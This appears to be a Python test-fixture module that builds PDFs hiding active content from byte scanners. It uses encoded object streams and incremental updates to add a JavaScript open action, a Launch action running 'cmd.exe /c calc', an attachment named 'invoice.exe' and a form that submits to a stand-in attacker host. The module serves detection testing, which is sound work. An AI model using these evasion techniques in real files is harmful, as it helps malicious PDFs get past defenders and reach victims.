"""PDFs that hide active content where a byte scan cannot see it, built here so every machine has
the same ones: scripts inside ASCIIHex- and ASCII85-encoded object streams (reached only through
a cross-reference stream), and incremental updates that add a script, a launch action, an
attached file or a form submission to a clean document."""

import base64

from .files import pdf_bytes, pdf_page_objects, xref_section

JS_ACTION = b"<< /Type /Action /S /JavaScript /JS (app.alert\\(1\\)) >>"
# The catalog of pdf_page_objects, with an automatic action and a document-level script.
CATALOG_WITH_SCRIPT = b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R /Names << /JavaScript 8 0 R >> >>"
SCRIPT_NAME_TREE = b"<< /Names [(run) 6 0 R] >>"


def _run_length(data: bytes) -> bytes:
    """RunLength encoding, literal runs only: enough for a reader to decode, and for the check to
    refuse without decoding (a real attack would use repeat runs, 128 bytes out per 2 bytes in)."""
    out = b""
    for start in range(0, len(data), 128):
        chunk = data[start : start + 128]
        out += bytes([len(chunk) - 1]) + chunk
    return out + b"\x80"


def _encode(data: bytes, filter_name: str) -> bytes:
    if filter_name == "RunLengthDecode":
        return _run_length(data)
    if filter_name == "ASCIIHexDecode":
        return data.hex().encode() + b">"
    if filter_name == "ASCII85Decode":
        return base64.a85encode(data) + b"~>"
    raise ValueError(filter_name)


def pdf_script_in_object_stream(filter_name="ASCIIHexDecode") -> bytes:
    """Objects 1 (the catalog, with /OpenAction and /JavaScript), 6 (the script) and 8 (the name
    tree) live only in object stream 7, encoded with `filter_name`; a cross-reference stream (9)
    says where. Nothing readable in the file names a script."""
    plain = pdf_page_objects("Advice")[1:]  # objects 2-5: pages, page, contents, font
    packed = [(1, CATALOG_WITH_SCRIPT), (6, JS_ACTION), (8, SCRIPT_NAME_TREE)]
    header, body = [], b""
    for number, obj in packed:
        header.append(b"%d %d" % (number, len(body)))
        body += obj + b"\n"
    header_bytes = b" ".join(header) + b"\n"
    encoded = _encode(header_bytes + body, filter_name)
    out = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n")
    offsets = {}
    for number, obj in enumerate(plain, 2):
        offsets[number] = len(out)
        out += b"%d 0 obj\n" % number + obj + b"\nendobj\n"
    offsets[7] = len(out)
    out += (
        b"7 0 obj\n<< /Type /ObjStm /N %d /First %d /Filter /%s /Length %d >>\nstream\n"
        % (len(packed), len(header_bytes), filter_name.encode(), len(encoded))
        + encoded
        + b"\nendstream\nendobj\n"
    )
    offsets[9] = len(out)
    rows = [b"\x00\x00\x00\x00\x00\xff\xff"]  # object 0: free
    in_stream = {number: index for index, (number, _) in enumerate(packed)}
    for number in range(1, 10):
        if number in in_stream:
            rows.append(b"\x02" + (7).to_bytes(4, "big") + in_stream[number].to_bytes(2, "big"))
        else:
            rows.append(b"\x01" + offsets[number].to_bytes(4, "big") + b"\x00\x00")
    table = b"".join(rows)
    out += (
        b"9 0 obj\n<< /Type /XRef /Size 10 /W [1 4 2] /Index [0 10] /Root 1 0 R /Length %d >>\nstream\n"
        % len(table)
        + table
        + b"\nendstream\nendobj\nstartxref\n%d\n%%%%EOF\n" % offsets[9]
    )
    return bytes(out)


def pdf_incremental_update(catalog: bytes, new_objects: list[bytes]) -> bytes:
    """A clean one-page PDF (objects 1-5) followed by an incremental update that replaces the
    catalog (object 1) with `catalog` and adds `new_objects` as objects 6, 7, ..."""
    base = pdf_bytes()
    previous = int(base.rsplit(b"startxref\n", 1)[1].split(b"\n", 1)[0])
    out = bytearray(base)
    offsets = [len(out)]
    out += b"1 0 obj\n" + catalog + b"\nendobj\n"
    added = []
    for number, body in enumerate(new_objects, 6):
        added.append(len(out))
        out += b"%d 0 obj\n" % number + body + b"\nendobj\n"
    at = len(out)
    size = 6 + len(new_objects)
    section = xref_section(offsets, size=size, root=1, at=at, first=1, prev=previous)
    if added:
        # A second subsection for the new objects, before the trailer.
        head, trailer = section.split(b"trailer\n", 1)
        head += b"6 %d\n" % len(added) + b"".join(b"%010d 00000 n \n" % offset for offset in added)
        section = head + b"trailer\n" + trailer
    return bytes(out + section)


def pdf_update_adding_script() -> bytes:
    return pdf_incremental_update(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        [JS_ACTION],
    )


def pdf_update_adding_launch() -> bytes:
    return pdf_incremental_update(
        b"<< /Type /Catalog /Pages 2 0 R /OpenAction 6 0 R >>",
        [b"<< /Type /Action /S /Launch /F (cmd.exe) /Win << /F (cmd.exe) /P (/c calc) >> >>"],
    )


def pdf_update_adding_attachment() -> bytes:
    payload = b"MZ not really a program"
    return pdf_incremental_update(
        b"<< /Type /Catalog /Pages 2 0 R /Names << /EmbeddedFiles 6 0 R >> >>",
        [
            b"<< /Names [(invoice.exe) 7 0 R] >>",
            b"<< /Type /Filespec /F (invoice.exe) /EF << /F 8 0 R >> >>",
            b"<< /Type /EmbeddedFile /Length %d >>\nstream\n" % len(payload) + payload + b"\nendstream",
        ],
    )


def pdf_update_adding_submit_form() -> bytes:
    return pdf_incremental_update(
        b"<< /Type /Catalog /Pages 2 0 R /AcroForm << /Fields [6 0 R] >> >>",
        [
            b"<< /FT /Btn /T (send) /Subtype /Widget /Rect [0 0 10 10] "
            b"/A << /S /SubmitForm /F (https://collector.evil.example/) >> >>",
        ],
    )
